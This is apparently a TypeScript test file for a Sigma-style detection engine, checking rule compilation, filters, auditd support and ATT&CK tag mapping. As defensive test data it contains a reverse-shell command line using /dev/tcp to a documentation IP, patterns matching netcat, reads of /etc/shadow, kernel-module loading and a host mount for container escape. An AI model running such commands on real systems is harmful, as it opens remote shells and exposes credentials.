/** Tests rules, filters and how what cannot run here is told. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { linearRegex } from "../../../operations/detect/linear-regex.ts";
import { execAct, sampleAct, sampleBook } from "../../../testing/act-samples.ts";
import type { Act, ActKind } from "../detect/act.ts";
import type { Hit } from "../detect/detector.ts";
import { compileRules } from "./compile-rules.ts";
import { createSigmaDetector } from "./sigma-detector.ts";

const options = { regex: linearRegex, placeholders: new Map() };
const exec = { product: "linux", category: "process_creation" };
const simple = { selection: { "Image|endswith": "/nc" }, condition: "selection" };
const base = { title: "T", id: "r1", logsource: exec, detection: simple };

function compile(...documents: readonly object[]) {
  return compileRules(
    documents.map((plain) => ({ source: "r.yml", plain })),
    options,
  );
}

function stateOf(...documents: readonly object[]): string {
  const { set, problems } = compile(...documents);
  assert.deepEqual(problems, []);
  const [listing] = set.listings;
  const evaluable = listing?.evaluable;
  return evaluable?.state === "never" ? `never: ${evaluable.why}` : (evaluable?.state ?? "");
}

function hitsOf(documents: readonly object[], acts: readonly Act[]): readonly Hit[] {
  const { set, problems } = compile(...documents);
  assert.deepEqual(problems, []);
  const detector = createSigmaDetector(set);
  const state = detector.start();
  const hits: Hit[] = [];
  const book = sampleBook(acts.map(({ subject }) => subject));
  for (const act of acts) {
    detector.step(state, act, { nowUs: act.timeUs, book, hit: (hit) => hits.push(hit) });
  }
  return hits;
}

const countOf = (documents: readonly object[], act: Act) => hitsOf(documents, [act]).length;

test("a hit tells the rule with its author, why, and what to look for", () => {
  const detection = { s: { "CommandLine|contains": ["/dev/tcp/"] }, condition: "s" };
  const author = "A. Author (Somewhere)";
  const rule = { ...base, author, level: "high", tags: ["attack.t1059.004"], detection };
  const act = execAct("/bin/bash -c sh</dev/tcp/203.0.113.5/4444 http://x.example.com/a /tmp/q");
  const [hit, ...more] = hitsOf([rule], [act]);
  assert.deepEqual(more, []);
  assert.equal(hit?.rule.author, author);
  assert.equal(hit?.rule.score, 50);
  assert.deepEqual(hit?.rule.techniques, ["T1059.004"]);
  assert.deepEqual(hit?.rule.tactics, ["execution"]);
  assert.deepEqual(hit?.because, ["CommandLine contains /dev/tcp/"]);
  assert.deepEqual(
    hit?.indicators.map(({ type, value }) => (type === "command" ? type : `${type} ${value}`)),
    [
      "command",
      "url http://x.example.com/a",
      "domain x.example.com",
      "ip 203.0.113.5",
      "file /tmp/q",
    ],
  );
});

test("arguments that were cut make a hit incomplete", () => {
  const [hit] = hitsOf([base], [execAct("/bin/nc -l", { argumentsCut: true })]);
  assert.equal(hit?.incomplete, true);
});

test("a rule holds only for acts of its source", () => {
  const { subject } = execAct("/bin/nc -l");
  assert.equal(countOf([base], sampleAct({ kind: "connect", subject })), 0);
  const network = { ...base, logsource: { category: "network_connection" } };
  assert.equal(countOf([network], sampleAct({ kind: "connect", subject })), 1);
  assert.equal(countOf([network], sampleAct({ kind: "exec", subject })), 0);
});

test("auditd rules ask acts that auditd would have told of", () => {
  const audit = (detection: object) => ({
    ...base,
    logsource: { product: "linux", service: "auditd" },
    detection: { s: detection, condition: "s" },
  });
  const insmod = audit({ type: "EXECVE", a0: "insmod", "a1|endswith": ".ko" });
  assert.equal(countOf([insmod], execAct("/sbin/insmod /tmp/x.ko")), 1);
  assert.equal(stateOf(insmod), "yes");
  const shadow = audit({ type: "PATH", name: "/etc/shadow" });
  assert.equal(countOf([shadow], sampleAct({ kind: "read", path: "/etc/shadow" })), 1);
  assert.equal(stateOf(shadow), "with-policy");
  assert.equal(stateOf(audit({ type: "SYSCALL", SYSCALL: "memfd_create" })), "with-policy");
  assert.match(stateOf(audit({ type: "USER_CMD" })), /^never: no event here carries/);
  assert.match(stateOf(audit({ SYSCALL: "mknod", a0: "x" })), /^never/);
});

test("our own rules ask for any act by its kind", () => {
  const rule = {
    ...base,
    logsource: { product: "linux", service: "waggle" },
    detection: { s: { kind: "mount", path: "/host" }, condition: "s" },
    waggle: { family: "escape", score: 60, matrix: ["MS-TA9013"], blindspots: "x" },
  };
  const { set } = compile(rule);
  assert.deepEqual(set.rules[0]?.kinds, ["mount"]);
  assert.equal(set.rules[0]?.head.family, "escape");
  assert.equal(set.rules[0]?.head.score, 60);
  assert.equal(countOf([rule], sampleAct({ kind: "mount", path: "/host" })), 1);
});

test("what cannot be fed here is listed with the reason and never matches", () => {
  const about = (logsource: object) => stateOf({ ...base, logsource });
  assert.equal(about({ product: "windows" }), 'never: it is about "windows"');
  assert.equal(about({ product: "linux", service: "sshd" }), 'never: logs of "sshd" are not read');
  assert.match(about({ category: "dns_query" }), /^never: events of "dns_query"/);
  const asking = (search: object) => stateOf({ ...base, detection: { s: search, condition: "s" } });
  assert.equal(asking({ Hashes: "x" }), 'never: there is no field "Hashes" here');
  assert.match(asking({ "CommandLine|re": "(?!x)" }), /^never: the regular expression/);
  assert.match(asking({ "Image|expand": "%x%" }), /^never: the placeholder/);
  assert.match(stateOf({ ...base, taxonomy: "ecs" }), /^never: its taxonomy/);
  assert.match(stateOf({ ...base, status: "unsupported" }), /^never/);
});

test("a rule that is wrong is refused with its place, the others run", () => {
  const wrong: readonly (readonly [object, readonly (string | number)[]])[] = [
    [{ ...base, title: undefined }, ["title"]],
    [{ ...base, level: "grave" }, ["level"]],
    [{ ...base, logsource: undefined }, ["logsource"]],
    [{ ...base, logsource: {} }, ["logsource"]],
    [{ ...base, detection: { s: { Image: "x" } } }, ["detection", "condition"]],
    [{ ...base, detection: { ...simple, timeframe: "5m" } }, ["detection"]],
    [
      { ...base, detection: { ...simple, condition: ["selection", "x"] } },
      ["detection", "condition", 1],
    ],
    [{ ...base, waggle: { famly: "miner" } }, ["waggle", "famly"]],
    [{ ...base, related: [{ id: "x", type: "cousin" }] }, ["related"]],
    [{ action: "global" }, ["action"]],
  ];
  for (const [document, path] of wrong) {
    const { set, problems } = compile(document, { ...base, id: "r2" });
    assert.deepEqual([problems[0]?.path, problems[0]?.document], [path, 0]);
    assert.equal(set.rules.length, 1);
  }
});

test("a list of conditions is joined by or", () => {
  const detection = { a: { Image: "/bin/a" }, b: { Image: "/bin/b" }, condition: ["a", "b"] };
  assert.equal(countOf([{ ...base, detection }], execAct("/bin/b")), 1);
});

const filter = (more: object, source: object = exec) => ({
  title: "F",
  logsource: source,
  filter: { rules: ["r1"], selection: { User: "root" }, condition: "selection", ...more },
});

test("a filter leaves out what it names, in the rules it names", () => {
  const act = execAct("/bin/nc");
  const other = { ...base, id: "r2", name: "second" };
  assert.equal(countOf([base, filter({})], act), 0);
  assert.equal(countOf([base, filter({})], execAct("/bin/nc", { uid: 5 })), 1);
  assert.equal(countOf([base, filter({ condition: "not selection" })], act), 0);
  assert.equal(countOf([base, other, filter({})], act), 1);
  assert.equal(countOf([base, other, filter({ rules: ["second", "r1"] })], act), 0);
  assert.equal(countOf([base, other, filter({ rules: "any" })], act), 0);
  assert.equal(countOf([base, filter({ rules: "any" }, { product: "linux" })], act), 0);
  const elsewhere = { category: "network_connection" };
  assert.equal(countOf([base, filter({ rules: "any" }, elsewhere)], act), 1);
});

test("a filtered rule is still only about the kinds of acts that it asks for", () => {
  const rule = {
    ...base,
    logsource: { product: "linux", service: "waggle" },
    detection: { s: { kind: ["write"], path: "/etc/x" }, condition: "s" },
  };
  const left = filter({ rules: "any" }, { product: "linux" });
  const { subject } = execAct("/bin/sh", { uid: 5 });
  const count = (kind: ActKind) =>
    countOf([rule, left], sampleAct({ kind, path: "/etc/x", subject }));
  assert.equal(count("write"), 1);
  assert.equal(count("read"), 0);
});

test("a filter that is not understood stops its rules", () => {
  const { set, problems } = compile(base, filter({ selection: { Hashes: "x" } }));
  assert.match(problems[0]?.message ?? "", /no field "Hashes"/);
  assert.equal(problems[0]?.document, 1);
  assert.equal(set.listings[0]?.evaluable.state, "never");
});

test("tags of older ATT&CK are translated, and the family follows from them", () => {
  const { set } = compile({
    ...base,
    tags: ["attack.defense_evasion", "attack.T1562.001", "cve.x"],
  });
  const head = set.rules[0]?.head;
  assert.deepEqual(head?.techniques, ["T1685"]);
  assert.equal(head?.family, "tampering");
  assert.equal(head?.level, "low");
});
